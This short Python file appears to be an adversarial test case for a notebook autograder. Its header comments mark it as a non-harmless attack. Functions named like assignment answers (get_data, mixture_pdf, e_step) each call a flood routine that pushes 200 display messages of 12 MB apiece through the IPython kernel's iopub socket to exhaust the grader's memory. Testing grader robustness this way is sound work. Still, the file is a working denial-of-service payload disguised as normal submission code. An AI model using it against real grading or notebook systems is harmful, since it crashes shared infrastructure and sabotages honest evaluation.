# attack: hundreds of messages of many megabytes wait in the grader's memory
# harmless: no
kernel = get_ipython().kernel
text = "x" * 12_000_000


def flood(*args, **kwargs):
    for _ in range(200):
        content = {"data": {"text/plain": text}, "metadata": {}}
        parent = kernel.get_parent("shell")
        kernel.session.send(kernel.iopub_socket, "display_data", content, parent=parent)


def get_data(*args, **kwargs):
    flood()


def mixture_pdf(*args):
    flood()


def e_step(*args):
    flood()
